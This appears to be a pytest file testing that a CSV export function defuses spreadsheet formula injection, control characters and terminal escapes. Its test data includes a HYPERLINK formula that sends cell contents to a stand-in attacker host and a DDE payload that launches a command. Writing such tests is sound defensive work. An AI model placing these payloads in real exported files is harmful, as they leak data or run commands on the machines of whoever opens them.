"""What is exported for spreadsheets can be opened without fear."""

import io

import pandas as pd
import pytest

from skerry.analysis.frame import csv_bytes

ATTACK = '=HYPERLINK("http://evil.example?"&A1)'


@pytest.mark.parametrize("text", [ATTACK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"])
def test_a_text_is_no_formula(text):
    """A plug-in's name or a label may be anything; a spreadsheet would compute it."""
    frame = pd.DataFrame({"name": [text, "two islands"], "value": [0.5, -0.5]})
    read = pd.read_csv(io.BytesIO(csv_bytes(frame)))
    assert list(read["name"]) == [f"'{text}", "two islands"]


@pytest.mark.parametrize("sign", "\t\r\n\0\x1b\x9b\u202e\u2028")
def test_control_characters_are_written_out(sign):
    """A name cannot break a row, begin a formula after a tab, or command a terminal."""
    frame = pd.DataFrame({f"a{sign}": [f"{sign}=1", "two islands"]})
    written = ascii(sign)[1:-1]
    assert csv_bytes(frame).decode() == f"a{written}\n{written}=1\ntwo islands\n"


def test_numbers_stay_numbers():
    frame = pd.DataFrame({"a": [-1, 2], "b": [-1e-300, float("nan")], "c": ["-0.5", "x"]})
    assert csv_bytes(frame) == b"a,b,c\n-1,-1e-300,-0.5\n2,,x\n"


def test_a_heading_is_no_formula_either():
    assert csv_bytes(pd.DataFrame({"=1+1": [True]})) == b"'=1+1\nTrue\n"
